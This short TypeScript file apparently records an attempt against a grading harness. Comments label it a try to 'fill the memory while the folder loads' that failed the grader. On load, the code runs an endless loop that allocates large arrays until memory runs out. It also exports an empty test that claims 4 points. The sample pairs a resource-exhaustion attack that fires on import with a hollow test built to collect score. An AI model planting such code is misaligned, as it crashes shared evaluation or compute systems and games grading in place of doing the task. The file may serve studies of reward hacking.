// attempt: fill the memory while the folder loads
// outcome: grader-failed
// fault: ended their room
//=== tests.ts
const all: unknown[] = []; for (;;) all.push(new Array(100_000).fill(1.5));
export default ({ test }: any) => test("only", { points: 4 }, () => {});
